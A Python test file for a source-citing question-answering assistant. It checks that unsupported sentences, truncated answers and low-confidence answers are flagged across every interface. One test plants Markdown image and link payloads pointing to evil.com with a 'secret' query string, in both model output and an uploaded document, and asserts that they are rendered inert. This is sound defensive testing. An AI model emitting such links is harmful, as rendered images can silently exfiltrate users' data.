"""What the page marks, every door marks: sentences without a source, and answers below the confidence that is set."""

from __future__ import annotations

import json
import re
from contextlib import aclosing
from typing import Any

import httpx2
from fastapi import FastAPI

from answering.confidence import is_below_confidence
from benchmarks.model_server import STALL, Reply, wanted_form
from doors.export import as_markdown
from doors.mcp_server import calling
from doors.openai_api import openai_door
from doors.results import without_lists
from doors.services import Services
from graph import studio
from graph.handle_query import handle_query
from graph.request import Request
from graph.turn_result import TurnResult
from nodes.events import Token
from tests.each_row import each_row
from tests.graph.turn_cases import Script, say, talking
from ui.render import TurnView

ASKED = {"en": "How long does the pump wait?", "zh": "年假有几天？"}
SOUND = {"en": "Wait for ninety seconds [1].", "zh": "员工每年有十五天带薪年假[1]。"}
UNSOUND = {"en": " Every employee also receives a company car.", "zh": "每名员工另有一辆公司汽车。"}
MARKED = {"en": "company car.⚠", "zh": "公司汽车。⚠"}
SAID = {"en": "No source is given for: “Every employee", "zh": "这句话没有标注来源：“每名员工"}


def script(language: str) -> Any:
    said = Script(answer=SOUND[language] + UNSOUND[language])
    return lambda request: said(request) if wanted_form(request) else Reply(SOUND[language] + UNSOUND[language])


def holds(text: str, fields: dict[str, Any], language: str) -> None:
    assert MARKED[language] in text
    assert [one["supported"] for one in fields["statements"]] == [True, False]
    assert fields["statements"][1]["text"] == UNSOUND[language].strip()
    assert fields["statements"][1]["markers"] == []
    assert any(SAID[language] in notice for notice in fields["notices"])


async def test_a_sentence_without_a_source_is_marked_at_every_door(make_settings, language, monkeypatch) -> None:
    async with talking(make_settings, script(language), both=True) as (assistant, _):
        services, wish = Services(assistant), {"question": ASKED[language]}
        found = (await services.call("ask", wish)).model_dump(mode="json")
        holds(found["answer"], found, language)
        tool = await calling(services)("ask", wish, "")
        holds(tool.structured_content["answer"], tool.structured_content, language)
        rated = (await services.call("evaluate", wish)).model_dump(mode="json")
        holds(rated["answer"], rated, language)

        site = FastAPI()
        site.include_router(openai_door(services))
        messages = [{"role": "user", "content": ASKED[language]}]
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(site), base_url="http://localhost") as client:
            whole = (await client.post("/v1/chat/completions", json={"messages": messages})).json()
            streamed = await client.post("/v1/chat/completions", json={"messages": messages, "stream": True})
        message = whole["choices"][0]["message"]
        holds(message["content"], message, language)
        assert message["answered_by"] == tool.structured_content["answered_by"] == found["answered_by"] != "extractive"
        assert SAID[language] in message["content"]
        assert without_lists(message["content"]) == found["answer"]
        deltas = [json.loads(line[6:])["choices"][0]["delta"] for line in streamed.text.split("\n\n")[:-2]]
        holds("".join(one.get("content", "") for one in deltas), deltas[-1], language)

        heard = TurnResult()
        async for event in assistant.run_turn(Request("t", ASKED[language])):
            heard.apply(event)
        assert MARKED[language] in str(heard.answer())
        assert any(SAID[language] in notice.to(language) for notice in heard.answer().notices)
        exported = as_markdown("x", await assistant.turns("t"), language)
        assert MARKED[language] in exported
        assert f"> ⚠ {SAID[language]}" in exported

        told = await handle_query(assistant, ASKED[language], use_web_if_needed=False)
        assert MARKED[language] in told["agent_result"]["parsed"]
        assert told["unsupported"] == [UNSOUND[language].strip()]
        assert any(SAID[language] in notice for notice in told["notices"])

        events: list[dict[str, Any]] = []
        monkeypatch.setattr(studio, "get_stream_writer", lambda: events.append)
        for event in await say(assistant, ASKED[language], thread="s"):
            studio._tell(event)
        assert MARKED[language] in "".join(one.get("token", "") for one in events)
        (answered,) = [one for one in events if "notices" in one]
        assert answered["unsupported"] == [UNSOUND[language].strip()]
        assert any(SAID[language] in notice for notice in answered["notices"])


async def test_an_answer_that_is_cut_short_says_so_at_every_door(make_settings, language, monkeypatch) -> None:
    whole, broken = SOUND[language], SOUND[language] + {"en": " …", "zh": "……"}[language]
    said, why = Reply(whole, finish="length"), {"en": "breaks off here", "zh": "回答在此中断"}[language]

    def holds(text: str, fields: dict[str, Any]) -> None:
        assert text.startswith(broken)
        assert fields["cut_short"] is True
        assert any(why in notice for notice in fields["notices"])

    async with talking(make_settings, Script(answer=said), both=True) as (assistant, _):
        services, wish = Services(assistant), {"question": ASKED[language]}
        found = (await services.call("ask", wish)).model_dump(mode="json")
        holds(found["answer"], found)
        tool = await calling(services)("ask", wish, "")
        holds(tool.structured_content["answer"], tool.structured_content)

        site = FastAPI()
        site.include_router(openai_door(services))
        messages = [{"role": "user", "content": ASKED[language]}]
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(site), base_url="http://localhost") as client:
            at_once = (await client.post("/v1/chat/completions", json={"messages": messages})).json()["choices"][0]
            streamed = await client.post("/v1/chat/completions", json={"messages": messages, "stream": True})
        holds(at_once["message"]["content"], at_once["message"])
        assert why in at_once["message"]["content"]
        last = [json.loads(line[6:])["choices"][0] for line in streamed.text.split("\n\n")[:-2]]
        holds("".join(one["delta"].get("content", "") for one in last), last[-1]["delta"])
        assert at_once["finish_reason"] == last[-1]["finish_reason"] == "length"

        view = TurnView(language)
        async for event in assistant.run_turn(Request("t", ASKED[language])):
            view.apply(event)
        assert f"{broken[-2:]}\n\n> ⚠ " in view.parts["answer"]["content"]
        assert why in view.parts["answer"]["content"]

        told = await handle_query(assistant, ASKED[language], use_web_if_needed=False)
        holds(told["agent_result"]["parsed"], told)


async def test_an_answer_below_the_confidence_that_is_set_says_so(make_settings, language) -> None:
    """Though the library covers the question: no sentence of the answer has a source."""
    async with talking(make_settings, Script(answer=UNSOUND[language]), both=True) as (assistant, _):
        found = await Services(assistant).call("ask", {"question": ASKED[language]})
        assert found.confidence == 0
        assert is_below_confidence(0, assistant.settings.min_confidence).to(language) in found.notices


async def test_nothing_that_a_model_or_a_document_says_is_live(make_settings, tmp_path) -> None:
    """Most programs show Markdown: a picture would be asked for with a secret in its address."""
    trap = "![x](http://evil.com/?q=secret) <img src='http://evil.com'> [click](http://evil.com) https://evil.com"
    guide = f"# Pump ![x](http://evil.com)\n\nThe pump waits for ninety seconds {trap}.\n"
    script = Script(answer=f"The pump waits for ninety seconds {trap} [1]. It flies {trap}.")
    async with talking(make_settings, script) as (assistant, _):
        await assistant.library.delete_all([("guide.md", "")])
        await assistant.library.add("![x](http:a).md", guide.encode())
        services, wish = Services(assistant), {"question": ASKED["en"]}
        shown = [json.dumps((await services.call(name, wish)).model_dump(exclude=_NAMES)) for name in ("ask", "search")]
        site = FastAPI()
        site.include_router(openai_door(services))
        asked: dict[str, Any] = {"messages": [{"role": "user", "content": ASKED["en"]}]}
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(site), base_url="http://localhost") as client:
            whole = (await client.post("/v1/chat/completions", json=asked)).json()
            streamed = await client.post("/v1/chat/completions", json={**asked, "stream": True})
        shown.append(whole["choices"][0]["message"]["content"])
        deltas = [json.loads(line[6:])["choices"][0]["delta"] for line in streamed.text.split("\n\n")[:-2]]
        shown.append("".join(one.get("content", "") for one in deltas))
        assert [event async for event in assistant.run_turn(Request("t", ASKED["en"]))]
        shown.append(as_markdown("x", await assistant.turns("t"), "en"))
    for text in shown:
        assert "secret" in text
        assert not re.search(r"!\[|<img|\]\(|\w://", text), text


_NAMES = {"sources": {"__all__": {"document"}}, "passages": {"__all__": {"document"}}}


async def test_a_mark_does_not_wait_for_the_end_of_the_stream(make_settings) -> None:
    said = Reply(f"{UNSOUND['en'].strip()} {SOUND['en']}", stall_after=14)  # a little of the next sentence
    async with talking(make_settings, Script(answer=said), CITEWISE_LLM_TIMEOUT=str(STALL)) as (assistant, _):
        text = ""
        async with aclosing(assistant.run_turn(Request("t", ASKED["en"]))) as events:
            async for event in events:
                text += event.text if isinstance(event, Token) else ""
                if "⚠" in text:
                    break
        assert text.startswith("Every employee also receives a company car.⚠ W")


LISTS = ["Please note:\n- ⚠ x", "Sources:\n- [1] a.md\n\nPlease note:\n- ⚠ x", "来源：\n- [1] a.md"]


@each_row("below", LISTS)
def test_lists_below_an_answer_are_no_part_of_the_conversation(below: str) -> None:
    assert without_lists(f"An answer.\n\n{below}") == "An answer."
